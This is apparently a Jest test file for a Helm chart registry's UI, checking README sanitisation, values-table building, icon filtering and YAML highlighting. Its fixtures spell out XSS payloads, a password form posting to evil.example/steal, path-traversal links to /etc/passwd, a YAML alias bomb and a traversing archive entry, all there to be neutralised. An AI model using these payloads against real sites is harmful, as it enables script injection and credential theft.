import { describe, expect, it } from '@jest/globals';
import { writeChartArchive } from '../../core/chart/archive.js';
import { ChartroomError } from '../../core/errors.js';
import { chartPageModel, parseChanges, safeIcon } from '../../registry-server/ui/chart-page.js';
import { highlightYaml, MAX_HIGHLIGHT_CHARS } from '../../registry-server/ui/highlight.js';
import { renderReadme } from '../../registry-server/ui/markdown.js';
import { parseKeyComment, valuesTable } from '../../registry-server/ui/values-table.js';

const CHART_YAML = 'apiVersion: v2\nname: demo\nversion: 1.2.3\n';

/** A chart archive in memory, as `chart package` writes it. */
function archive(files: Record<string, string | Buffer>, top = 'demo'): Buffer {
  const all = { 'Chart.yaml': CHART_YAML, ...files };
  return writeChartArchive(top, Object.entries(all).map(([name, data]) => ({ name, data: Buffer.from(data) })), { mtime: new Date(0) });
}

const page = (files: Record<string, string | Buffer>, fileUrl?: (p: string) => string) => chartPageModel(archive(files), { name: 'demo', version: '1.2.3', fileUrl });

const HOSTILE_README = `# Demo chart

<script>alert('script')</script>
<img src="x.png" onerror="alert('onerror')">
<IMG SRC=x OnLoad=alert(1)>
<a href="javascript:alert('js')">js link</a>
<a href="JaVaScRiPt&#58;alert(1)">entity js</a>
<a href="java&#9;script:alert(1)">tab js</a>
<a href=" &#14;  javascript:alert(1)">control js</a>

[md js](javascript:alert('md')) and [md vbscript](vbscript:msgbox) and ![md svg](data:image/svg+xml;base64,PHN2Zz4=)

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<svg><script>alert('svg')</script><a xlink:href="javascript:alert(2)"><text>svg text</text></a></svg>
<svg onload="alert(3)"/>
<math><mi xlink:href="javascript:alert(4)">m</mi></math>
<form action="https://evil.example/steal"><input name="password" type="password"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<object data="x.swf"></object><embed src="x.swf">
<p style="position:fixed;top:0" onclick="alert(5)" class="evil">styled paragraph</p>
<h2 id="clobber" onmouseover="alert(6)">Raw heading</h2>
<div><a href="https://example.com/x" target="_blank" rel="opener">external raw</a></div>
<a href="//other.example/path">protocol relative</a>
<a href="/\\evil.example">backslash</a>
<details open ontoggle="alert(8)"><summary>More</summary>hidden</details>
<noscript><p title="</noscript><img src=x onerror=alert(7)>">x</p></noscript>

## Install

\`\`\`sh
helm install demo ./demo
\`\`\`

| key | value |
|:----|------:|
| a   | 1     |

Text with **bold**, _em_, \`code\` and [a link](https://example.com/docs).

![logo](https://example.com/logo.png)
![inline png](data:image/png;base64,iVBORw0KGgo=)
`;

describe('README rendering', () => {
  const links = { hasFile: (p: string) => ['docs/guide.md', 'img/logo.png', 'values.yaml'].includes(p), fileUrl: (p: string) => `/ui/demo/1.2.3/files/${p}` };

  it('leaves none of the hostile tricks active', () => {
    const { html } = renderReadme(HOSTILE_README, links);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/\son\w+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/vbscript:/i);
    expect(html).not.toMatch(/<iframe/i);
    expect(html).not.toMatch(/<style/i);
    expect(html).not.toMatch(/style=/i);
    expect(html).not.toMatch(/<svg|<math|xlink:href/i);
    expect(html).not.toMatch(/<form|<input|<button|<meta|<base|<link|<object|<embed/i);
    expect(html).not.toMatch(/data:text|data:image\/svg/i);
    expect(html).not.toMatch(/evil\.example/);
    expect(html).not.toMatch(/class="evil"|target=|rel="opener"|id="clobber"/);
    // The sources of dropped script and style do not turn up as text either.
    expect(html).not.toContain("alert('script')");
    expect(html).not.toContain('display: none');
    expect(html).not.toContain("alert('svg')");
  });

  it('keeps safe markup: headings, code blocks, tables, emphasis, links and images', () => {
    const { html } = renderReadme(HOSTILE_README, links);
    expect(html).toContain('<h1 id="demo-chart">Demo chart</h1>');
    expect(html).toContain('<h2 id="install">Install</h2>');
    expect(html).toContain('<pre><code class="language-sh">helm install demo ./demo\n</code></pre>');
    expect(html).toMatch(/<table>[\s\S]*<th align="left">key<\/th>[\s\S]*<td align="right">1<\/td>[\s\S]*<\/table>/);
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<em>em</em>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<a href="https://example.com/docs" rel="nofollow noopener noreferrer">a link</a>');
    expect(html).toContain('<a href="https://example.com/x" rel="nofollow noopener noreferrer">external raw</a>');
    expect(html).toContain('<img src="https://example.com/logo.png" alt="logo" />');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline png" />');
    expect(html).toContain('<p>styled paragraph</p>');
    expect(html).toContain('<details open><summary>More</summary>hidden</details>');
    // A protocol-relative link is an external https link like any other.
    expect(html).toContain('<a href="https://other.example/path" rel="nofollow noopener noreferrer">protocol relative</a>');
    // A refused link keeps its words.
    expect(html).toContain('js link');
    expect(html).toContain('md js');
  });

  it('resolves relative links and images to chart files and drops those that leave the chart or name nothing', () => {
    const readme = [
      '[guide](docs/guide.md#setup)',
      '[guide dot](./docs/../docs/guide.md)',
      '[rooted](/values.yaml)',
      '[escape](../../etc/passwd)',
      '[escape deep](docs/../../x/guide.md)',
      '[encoded escape](%2e%2e/%2e%2e/etc/passwd)',
      '[missing](docs/nope.md)',
      '[anchor](#install)',
      '![logo](img/logo.png)',
      '![outside](../logo.png)',
      '<img src="img/logo.png" alt="raw logo">',
      '<a href="docs/guide.md">raw guide</a>',
      '',
      '## Install',
    ].join('\n\n');
    const { html } = renderReadme(readme, links);
    expect(html).toContain('<a href="/ui/demo/1.2.3/files/docs/guide.md#setup">guide</a>');
    expect(html).toContain('<a href="/ui/demo/1.2.3/files/docs/guide.md">guide dot</a>');
    expect(html).toContain('<a href="/ui/demo/1.2.3/files/values.yaml">rooted</a>');
    expect(html).toContain('<span>escape</span>');
    expect(html).toContain('<span>escape deep</span>');
    expect(html).toContain('<span>encoded escape</span>');
    expect(html).toContain('<span>missing</span>');
    expect(html).toContain('<a href="#install">anchor</a>');
    expect(html).toContain('<img src="/ui/demo/1.2.3/files/img/logo.png" alt="logo" />');
    expect(html).toContain('<img src="/ui/demo/1.2.3/files/img/logo.png" alt="raw logo" />');
    expect(html).toContain('<a href="/ui/demo/1.2.3/files/docs/guide.md">raw guide</a>');
    expect(html).not.toContain('passwd');
    expect(html).not.toMatch(/src="[^"]*\.\.\/logo/);
    expect(html).toContain('<span>outside</span>');
  });

  it('builds a table of contents with unique slugs that match the headings ids', () => {
    const { html, toc } = renderReadme('# Chart `demo`!\n\n## Install\n\n## Install\n\n### Values & *options*\n\n## ???\n', links);
    expect(toc).toEqual([
      { level: 1, text: 'Chart demo!', slug: 'chart-demo' },
      { level: 2, text: 'Install', slug: 'install' },
      { level: 2, text: 'Install', slug: 'install-1' },
      { level: 3, text: 'Values & options', slug: 'values--options' },
      { level: 2, text: '???', slug: 'section' },
    ]);
    for (const { slug } of toc) expect(html).toContain(`id="${slug}"`);
  });

  it('renders only the first MiB of a huge README', () => {
    const big = `# Big\n\n${'word '.repeat(300_000)}\n\n## Tail heading\n`;
    const { toc, truncated } = renderReadme(big, links);
    expect(truncated).toBe(true);
    expect(toc.map((t) => t.slug)).toEqual(['big']);
  });
});

const VALUES = `# Number of replicas (a plain comment)
replicaCount: 1

image:
  # -- The image repository
  repository: nginx
  # -- The image tag,
  # defaults to the chart's appVersion
  # when empty
  tag: ""
  # @ignored plain text that is not a description

  # -- Pull policy
  pullPolicy: IfNotPresent

# this comment is separated from the key

service:
  type: ClusterIP
  port: 80

ingress:
  enabled: false
  hosts:
    - host: chart.example.local
      # -- Paths of the host
      paths:
        - /
        - /api
  tls: []

# -- Annotations for the pods
# @default -- see values.yaml
podAnnotations:
  app.kubernetes.io/name: demo

resources: {}
ratio: 0.5
enabled: yes
nothing: null
`;

describe('values table', () => {
  const rowsOf = (text: string, schema?: unknown) => {
    const t = valuesTable(text, schema);
    return Object.fromEntries(t.rows.map((r) => [r.path, r]));
  };

  it('has a row for every key and leaf, with helm-docs descriptions, multi-line ones and plain fallbacks', () => {
    const t = valuesTable(VALUES);
    expect(t.notice).toBeUndefined();
    expect(t.rows.map((r) => r.path)).toEqual([
      'replicaCount',
      'image', 'image.repository', 'image.tag', 'image.pullPolicy',
      'service', 'service.type', 'service.port',
      'ingress', 'ingress.enabled', 'ingress.hosts', 'ingress.hosts[0].host', 'ingress.hosts[0].paths', 'ingress.tls',
      'podAnnotations', 'podAnnotations["app.kubernetes.io/name"]',
      'resources', 'ratio', 'enabled', 'nothing',
    ]);
    const rows = rowsOf(VALUES);
    expect(rows.replicaCount).toEqual({ path: 'replicaCount', type: 'int', default: '1', description: 'Number of replicas (a plain comment)' });
    expect(rows['image.repository']).toEqual({ path: 'image.repository', type: 'string', default: '"nginx"', description: 'The image repository' });
    expect(rows['image.tag'].description).toBe("The image tag, defaults to the chart's appVersion when empty");
    expect(rows['image.tag'].default).toBe('""');
    expect(rows['image.pullPolicy'].description).toBe('Pull policy');
    expect(rows.image.type).toBe('object');
    expect(rows.image.default).toBe('{"repository":"nginx","tag":"","pullPolicy":"IfNotPresent"}');
    expect(rows.service.description).toBe('');
    expect(rows['ingress.hosts'].type).toBe('list');
    expect(rows['ingress.hosts[0].paths']).toEqual({ path: 'ingress.hosts[0].paths', type: 'list', default: '["/","/api"]', description: 'Paths of the host' });
    expect(rows['ingress.tls'].default).toBe('[]');
    expect(rows.podAnnotations).toEqual({ path: 'podAnnotations', type: 'object', default: 'see values.yaml', description: 'Annotations for the pods' });
    expect(rows.resources.default).toBe('{}');
    expect(rows.ratio.type).toBe('float');
    expect(rows.enabled).toMatchObject({ type: 'bool', default: 'true' });
    expect(rows.nothing).toMatchObject({ type: 'null', default: 'null' });
  });

  it('reads comments as helm-docs does', () => {
    expect(parseKeyComment(' -- first\n second\n third')).toEqual({ description: 'first second third', default: undefined });
    expect(parseKeyComment(' old\n\n -- new')).toEqual({ description: 'new', default: undefined });
    expect(parseKeyComment(' -- gap\n')).toBeUndefined();
    expect(parseKeyComment(' plain words')).toEqual({ description: 'plain words', default: undefined });
  });

  it('takes type, description, default and enum from values.schema.json over what it guesses', () => {
    const schema = {
      $schema: 'http://json-schema.org/draft-07/schema#',
      type: 'object',
      definitions: { port: { type: 'integer', description: 'The service port', minimum: 1 } },
      properties: {
        replicaCount: { type: ['integer', 'null'], description: 'How many pods' },
        image: { type: 'object', properties: { pullPolicy: { type: 'string', enum: ['Always', 'IfNotPresent', 'Never'], default: 'Always' } } },
        service: { properties: { port: { $ref: '#/definitions/port' }, type: { description: '' } } },
        ingress: { properties: { hosts: { items: { properties: { host: { description: 'A host name', type: 'string', format: 'hostname' } } } } } },
        loop: { $ref: '#/properties/loop' },
      },
    };
    const rows = rowsOf(`${VALUES}loop: 1\n`, schema);
    expect(rows.replicaCount).toMatchObject({ type: 'integer|null', description: 'How many pods', default: '1' });
    expect(rows['image.pullPolicy']).toEqual({ path: 'image.pullPolicy', type: 'string', default: '"Always"', description: 'Pull policy', enum: ['"Always"', '"IfNotPresent"', '"Never"'] });
    expect(rows['service.port']).toMatchObject({ type: 'integer', description: 'The service port' });
    // An empty schema description does not wipe out the comment's; here there is none to keep.
    expect(rows['service.type']).toMatchObject({ type: 'string', description: '' });
    expect(rows['ingress.hosts[0].host']).toMatchObject({ type: 'string', description: 'A host name' });
    // A $ref cycle ends in no schema, not a hang.
    expect(rows.loop).toMatchObject({ type: 'int', description: '' });
  });

  it('refuses a values.yaml over the size limit, clearly', () => {
    const big = `a: ${JSON.stringify('x'.repeat(2 * 1024 * 1024))}\n`;
    const t = valuesTable(big);
    expect(t.rows).toEqual([]);
    expect(t.notice).toMatch(/values\.yaml is \d+ bytes, more than the 1048576 this page reads/);
  });

  it('bounds deep nesting, row counts and aliases', () => {
    let deep = '';
    for (let i = 0; i < 200; i++) deep += `${'  '.repeat(i)}k${i}:\n`;
    deep += `${'  '.repeat(200)}leaf: 1\n`;
    const d = valuesTable(deep);
    expect(d.rows.length).toBe(32);
    expect(d.rows[31].path).toBe(Array.from({ length: 32 }, (_, i) => `k${i}`).join('.'));
    expect(d.notice).toMatch(/nested deeper than 32 levels/);

    const flowDeep = `a: ${'['.repeat(5000)}${']'.repeat(5000)}\n`;
    const f = valuesTable(flowDeep);
    expect(f.rows).toEqual([]);
    expect(f.notice).toMatch(/^values\.yaml could not be read/);

    const wide = Array.from({ length: 6000 }, (_, i) => `key${i}: ${i}`).join('\n');
    const w = valuesTable(wide);
    expect(w.rows.length).toBe(5000);
    expect(w.rows[4999].path).toBe('key4999');
    expect(w.notice).toBe('the table stops at 5000 rows');

    const lines = ['a: &a ["x","x","x","x","x","x","x","x","x","x"]'];
    for (let i = 0; i < 8; i++) lines.push(`${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(10).fill(`*${String.fromCharCode(97 + i)}`).join(',')}]`);
    const bomb = valuesTable(lines.join('\n'));
    expect(bomb.rows).toEqual([]);
    expect(bomb.notice).toMatch(/too many aliases/);

    const aliased = rowsOf('base: &base\n  a: 1\ncopy: *base\n');
    expect(aliased.copy).toMatchObject({ type: 'alias', default: '*base' });
  });
});

describe('artifacthub.io/changes and icons', () => {
  it('reads the structured list form', () => {
    const annotation = '- kind: added\n  description: Support for ingress classes\n  links:\n    - name: PR\n      url: https://example.com/pr/1\n- kind: fixed\n  description: "Crash on empty values"\n- kind: removed\n';
    expect(parseChanges(annotation)).toEqual([
      { kind: 'added', description: 'Support for ingress classes' },
      { kind: 'fixed', description: 'Crash on empty values' },
    ]);
  });

  it('reads the plain list form, and gives nothing for anything else', () => {
    expect(parseChanges('- Added a thing\n- "Fixed: another"\n')).toEqual([{ description: 'Added a thing' }, { description: 'Fixed: another' }]);
    expect(parseChanges('just a sentence')).toEqual([]);
    expect(parseChanges('- [unclosed')).toEqual([]);
    expect(parseChanges(undefined)).toEqual([]);
  });

  it('keeps only https icons and raster data images', () => {
    expect(safeIcon('https://example.com/icon.png')).toBe('https://example.com/icon.png');
    expect(safeIcon('data:image/png;base64,iVBORw0KGgo=')).toBe('data:image/png;base64,iVBORw0KGgo=');
    expect(safeIcon('data:image/webp;base64,UklGRg==')).toBe('data:image/webp;base64,UklGRg==');
    for (const bad of ['http://example.com/icon.png', 'javascript:alert(1)', 'data:image/svg+xml;base64,PHN2Zz4=', 'data:text/html,<script>', 'data:image/png;base64,"><script>', '//example.com/i.png', 'icon.png', 'https://', 42]) {
      expect(safeIcon(bad)).toBeUndefined();
    }
  });
});

describe('chartPageModel', () => {
  const chartYaml = `apiVersion: v2
name: demo
version: 1.2.3
appVersion: "2.0"
kubeVersion: ">=1.25.0-0"
description: A demo chart
type: application
deprecated: true
home: https://example.com/demo
icon: javascript:alert(1)
keywords: [web, demo]
sources:
  - https://github.com/example/demo
  - javascript:alert(1)
maintainers:
  - name: Ann
    email: ann@example.com
    url: javascript:alert(1)
  - name: Bob
    url: https://example.com/bob
dependencies:
  - name: redis
    version: ~18.0.0
    repository: oci://registry.example.com/charts
    alias: cache
    condition: cache.enabled
annotations:
  artifacthub.io/changes: |
    - kind: changed
      description: New default port
  example.com/note: "<b>not html</b>"
`;

  it('computes every part of the page from the archive', async () => {
    const m = await page(
      {
        'Chart.yaml': chartYaml,
        'README.md': '# Demo\n\nSee [the guide](docs/guide.md) and <img src=x onerror=alert(1)>.\n',
        'docs/guide.md': '# Guide\n',
        'values.yaml': '# -- Replicas\nreplicaCount: 2\n',
        'values.schema.json': JSON.stringify({ properties: { replicaCount: { type: 'integer', description: 'Pods to run' } } }),
        'templates/deployment.yaml': 'kind: Deployment\nreplicas: {{ .Values.replicaCount }}\n',
        'templates/_helpers.tpl': '{{- define "demo.name" -}}demo{{- end }}\n',
      },
      (p) => `/ui/charts/demo/1.2.3/files/${p}`,
    );
    expect(m).toMatchObject({
      name: 'demo',
      version: '1.2.3',
      appVersion: '2.0',
      kubeVersion: '>=1.25.0-0',
      description: 'A demo chart',
      type: 'application',
      deprecated: true,
      home: 'https://example.com/demo',
      keywords: ['web', 'demo'],
      sources: ['https://github.com/example/demo'],
      maintainers: [{ name: 'Ann', email: 'ann@example.com' }, { name: 'Bob', url: 'https://example.com/bob' }],
      dependencies: [{ name: 'redis', version: '~18.0.0', repository: 'oci://registry.example.com/charts', alias: 'cache', condition: 'cache.enabled' }],
      changes: [{ kind: 'changed', description: 'New default port' }],
      valuesYaml: '# -- Replicas\nreplicaCount: 2\n',
      valuesYamlTruncated: false,
      valuesTable: [{ path: 'replicaCount', type: 'integer', default: '2', description: 'Pods to run' }],
      toc: [{ level: 1, text: 'Demo', slug: 'demo' }],
      templatesTruncated: false,
    });
    expect(m.icon).toBeUndefined();
    expect(m.annotations['example.com/note']).toBe('<b>not html</b>');
    expect(m.readmeHtml).toContain('<a href="/ui/charts/demo/1.2.3/files/docs/guide.md">the guide</a>');
    expect(m.readmeHtml).not.toMatch(/onerror|<img/);
    expect(m.templates).toEqual([
      { path: 'templates/_helpers.tpl', text: '{{- define "demo.name" -}}demo{{- end }}\n', truncated: false },
      { path: 'templates/deployment.yaml', text: 'kind: Deployment\nreplicas: {{ .Values.replicaCount }}\n', truncated: false },
    ]);
    expect(m.valuesNotice).toBeUndefined();
    expect(m.valuesHtml).toBe('<span class="hljs-comment"># -- Replicas</span>\n<span class="hljs-attr">replicaCount:</span> <span class="hljs-number">2</span>\n');
    expect(m.archiveSize).toBeGreaterThan(100);
  });

  it('builds default file URLs, and copes with a chart that has no README or values', async () => {
    const m = await page({ 'README.md': '![arch](docs/arch diagram.png)\n\n<img src="docs/arch%20diagram.png">', 'docs/arch diagram.png': Buffer.from([0x89, 0x50]) });
    expect(m.readmeHtml).toContain('src="./files/docs/arch%20diagram.png"');
    const bare = await page({});
    expect(bare).toMatchObject({ readmeHtml: '', toc: [], valuesYaml: '', valuesTable: [], templates: [], dependencies: [], maintainers: [], sources: [], changes: [], deprecated: false });
  });

  it('cuts a 2 MiB values.yaml, says so, and builds no table from it', async () => {
    const big = `# -- big\nblob: "${'x'.repeat(2 * 1024 * 1024)}"\n`;
    const m = await page({ 'values.yaml': big });
    expect(m.valuesYamlTruncated).toBe(true);
    expect(Buffer.byteLength(m.valuesYaml)).toBe(1024 * 1024);
    expect(m.valuesTable).toEqual([]);
    expect(m.valuesNotice).toMatch(/more than the 1048576 this page reads/);
  });

  it('keeps a data: icon of a raster kind', async () => {
    const m = await page({ 'Chart.yaml': `${CHART_YAML}icon: data:image/png;base64,iVBORw0KGgo=\n` });
    expect(m.icon).toBe('data:image/png;base64,iVBORw0KGgo=');
  });

  it('refuses an archive the archive reader refuses', async () => {
    const bad = writeChartArchive('demo', [{ name: 'Chart.yaml', data: Buffer.from(CHART_YAML) }, { name: '../../etc/evil', data: Buffer.from('x') }], { mtime: new Date(0) });
    await expect(chartPageModel(bad, { name: 'demo', version: '1.2.3' })).rejects.toMatchObject({ code: 'ARCHIVE_REJECTED' });
    await expect(chartPageModel(Buffer.from('not gzip'), { name: 'demo', version: '1.2.3' })).rejects.toBeInstanceOf(ChartroomError);
  });
});

describe('values.yaml highlighting', () => {
  it('wraps tokens in highlight.js spans and escapes everything the chart wrote', () => {
    const html = highlightYaml('a: "<script>alert(1)</script>"\nb: <img src=x onerror=alert(2)>\n# </span><svg onload=alert(3)>\n')!;
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img</span>');
    expect(html).toContain('onerror=alert(2)&gt;');
    expect(html).toContain('&lt;/span&gt;&lt;svg onload=alert(3)&gt;');
    // Only highlight.js's own spans are markup.
    expect(html.replace(/<span class="hljs-[a-z-]+">|<\/span>/g, '')).not.toContain('<');
  });

  it('gives up on text too long to highlight (the page shows it plain)', () => {
    expect(highlightYaml(`k: ${'x'.repeat(MAX_HIGHLIGHT_CHARS)}\n`)).toBeUndefined();
    expect(highlightYaml('k: v\n')).toBe('<span class="hljs-attr">k:</span> <span class="hljs-string">v</span>\n');
  });
});
